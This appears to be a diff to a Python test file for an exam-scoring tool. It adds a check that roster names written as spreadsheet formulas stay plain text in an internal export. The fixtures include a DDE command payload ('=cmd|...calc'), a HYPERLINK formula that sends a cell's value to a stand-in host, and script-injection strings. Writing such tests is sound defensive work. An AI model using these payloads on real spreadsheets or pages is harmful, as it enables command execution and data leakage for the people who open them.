@@ -26,9 +26,11 @@ from omr.safe_text import (
 )
 from omr.score.identity import load_roster
 from omr.simulate import simulate_session
+from omr.workflow.internal_export import write_internal_export
 
 SCRIPT = '<script>alert("x")</script>'
 CODE = '=HYPERLINK("http://x.example/?"&A1,"[click]*?/")'  # a formula, and bad in a sheet title
+NAME = '=cmd|" /C calc"!A0'
 TITLE = f"+Sınav {SCRIPT} <img src=x onerror=alert(1)>"
 
 
@@ -42,6 +44,13 @@ def hostile_run(tmp_path_factory):
     exam["courses"][0]["name"] = f"@Türk Dili {SCRIPT}"
     (root / "exam.yaml").write_text(yaml.safe_dump(exam, allow_unicode=True), encoding="utf-8")
     shutil.move(root / "scans" / "stack.pdf", root / "scans" / "=1+2 -stack.pdf")
+    with (root / "roster.csv").open(encoding="utf-8", newline="") as fh:
+        people = list(csv.DictReader(fh))
+    people[0] |= {"first_name": NAME, "last_name": "+Kaya"}  # a name that is a formula
+    with (root / "roster.csv").open("w", encoding="utf-8", newline="") as fh:
+        writer = csv.DictWriter(fh, fieldnames=list(people[0]))
+        writer.writeheader()
+        writer.writerows(people)
     run_session(root, jobs=1)
     return root / "out"
 
@@ -73,6 +82,20 @@ def test_excel_cells_hold_the_text_as_text_in_a_valid_sheet(hostile_run):
                 assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                 values.append(cell.value)
     assert CODE in values and "=1+2 -stack.pdf:1" in values  # the text itself, unchanged
+
+
+def test_names_that_are_formulas_stay_text_in_the_internal_export(hostile_run, tmp_path):
+    write_internal_export(hostile_run, by="ofis", why="registry match", dest=tmp_path)
+    cells = list(_csv_cells(tmp_path / "results-internal.csv"))
+    assert f"'{NAME} +Kaya" in cells  # the roster's name, neutralised
+    book = openpyxl.load_workbook(tmp_path / "results-internal.xlsx")
+    values = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                values.append(cell.value)
+    assert f"{NAME} +Kaya" in values and "=1+2 -stack.pdf" in values
 
 
 def test_html_in_titles_and_names_is_shown_as_text(hostile_run):
